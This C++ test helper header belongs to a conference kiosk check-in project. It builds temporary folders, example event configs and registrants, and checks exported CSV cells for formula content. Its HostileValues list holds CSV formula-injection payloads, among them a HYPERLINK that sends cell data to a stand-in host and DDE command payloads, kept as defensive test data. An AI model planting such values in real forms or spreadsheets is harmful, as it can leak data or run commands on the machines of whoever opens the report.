// SPDX-License-Identifier: Apache-2.0
#pragma once

// Shared by the kiosk tests: a temporary folder with the example event, and helpers.

#include <accueil/core/AttendanceStore.h>
#include <accueil/core/Config.h>
#include <accueil/core/RegistrantImport.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>

namespace accueil::core::test {

/// A fresh folder under the system temp dir, removed at the end of the test.
class TempDir {
public:
    TempDir() {
        std::string pattern =
            (std::filesystem::temp_directory_path() / "accueil-test-XXXXXX").string();
        if (mkdtemp(pattern.data()) == nullptr) {
            throw std::runtime_error("mkdtemp failed");
        }
        m_path = pattern;
    }
    TempDir(const TempDir&) = delete;
    TempDir& operator=(const TempDir&) = delete;
    ~TempDir() {
        std::error_code ec;
        std::filesystem::remove_all(m_path, ec);
    }
    const std::filesystem::path& path() const { return m_path; }
    std::string file(const std::string& name) const { return (m_path / name).string(); }

    /// Writes `text` to `name` in the folder and returns its full path.
    std::string write(const std::string& name, const std::string& text) const {
        std::ofstream out(file(name), std::ios::binary);
        out << text;
        return file(name);
    }

private:
    std::filesystem::path m_path;
};

/// The example event: 17-20 June 2025, Europe/Zurich.
inline std::string EventToml(const std::string& reentry = "allow", int debounce = 5) {
    return "[event]\nid = \"apmbc-ism-2025\"\ntimezone = \"Europe/Zurich\"\n"
           "days = [\"2025-06-17\", \"2025-06-18\", \"2025-06-19\", \"2025-06-20\"]\n"
           "reentry = \"" +
           reentry + "\"\ndebounce_seconds = " + std::to_string(debounce) +
           "\n[event.name]\nen = \"Intersessional Meetings\"\nfr = \"Réunions intersessions\"\n";
}

inline std::string KioskToml(const std::string& id = "door-1") {
    return "[kiosk]\nid = \"" + id +
           "\"\ndatabase = \"kiosk.db\"\nevent = \"event.toml\"\n"
           "[staff]\nmax_failures = 3\nlockout_seconds = 60\n";
}

/// Writes event.toml and kiosk.toml into `dir` and loads them.
inline KioskConfig MakeKiosk(const TempDir& dir, const std::string& reentry = "allow",
                             int debounce = 5) {
    dir.write("event.toml", EventToml(reentry, debounce));
    const std::string path = dir.write("kiosk.toml", KioskToml());
    auto config = LoadKioskConfig(path);
    if (!config) {
        throw std::runtime_error(config.error().message);
    }
    return std::move(config).value();
}

/// An EventConfig without files.
inline EventConfig MakeEvent(const std::string& reentry = "allow", int debounce = 5) {
    TempDir dir;
    const std::string path = dir.write("event.toml", EventToml(reentry, debounce));
    auto event = LoadEventConfig(path);
    if (!event) {
        throw std::runtime_error(event.error().message);
    }
    return std::move(event).value();
}

inline Registrant Person(const std::string& id, const std::string& given, const std::string& family,
                         const std::string& delegation = "Norway",
                         const std::string& category = "State Party",
                         const std::string& gender = "female") {
    Registrant r;
    r.id = id;
    r.givenName = given;
    r.familyName = family;
    r.delegation = delegation;
    r.category = category;
    r.gender = gender;
    return r;
}

/// Parses "2025-06-17T09:00:00Z"-style times for tests, failing the test on bad input.
inline UtcMillis At(const EventConfig& event, const std::string& text) {
    auto t = event.calendar->parseTime(text);
    EXPECT_TRUE(t.ok()) << text;
    return t.ok() ? *t : 0;
}

/// The cells of a CSV text that a spreadsheet program would run as a formula: those beginning
/// with =, +, -, @, a tab or a carriage return. A CSV the project writes has none.
/// The IDs of what the store's name search finds for `query`, in order.
inline std::vector<std::string> SearchIds(AttendanceStore& store, const std::string& query) {
    std::vector<std::string> out;
    auto hits = store.search(query);
    EXPECT_TRUE(hits.ok()) << hits.error().message;
    if (hits.ok()) {
        for (const auto& h : *hits) {
            out.push_back(h.registrant.id);
        }
    }
    return out;
}

inline std::vector<std::string> FormulaCells(const std::string& csv) {
    auto records = ParseCsv(csv, "written.csv");
    EXPECT_TRUE(records.ok()) << (records.ok() ? "" : records.error().message);
    std::vector<std::string> found;
    for (const auto& record : records.ok() ? *records : std::vector<CsvRecord>{}) {
        for (const auto& cell : record.fields) {
            if (!cell.empty() &&
                std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos) {
                found.push_back(cell);
            }
        }
    }
    return found;
}

/// Values a delegate could type into a registration form to attack whoever opens a report.
inline std::vector<std::string> HostileValues() {
    return {R"(=HYPERLINK("http://evil.example/?"&A1,"x"))",
            "+41 22 917 12 34",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1"};
}

} // namespace accueil::core::test
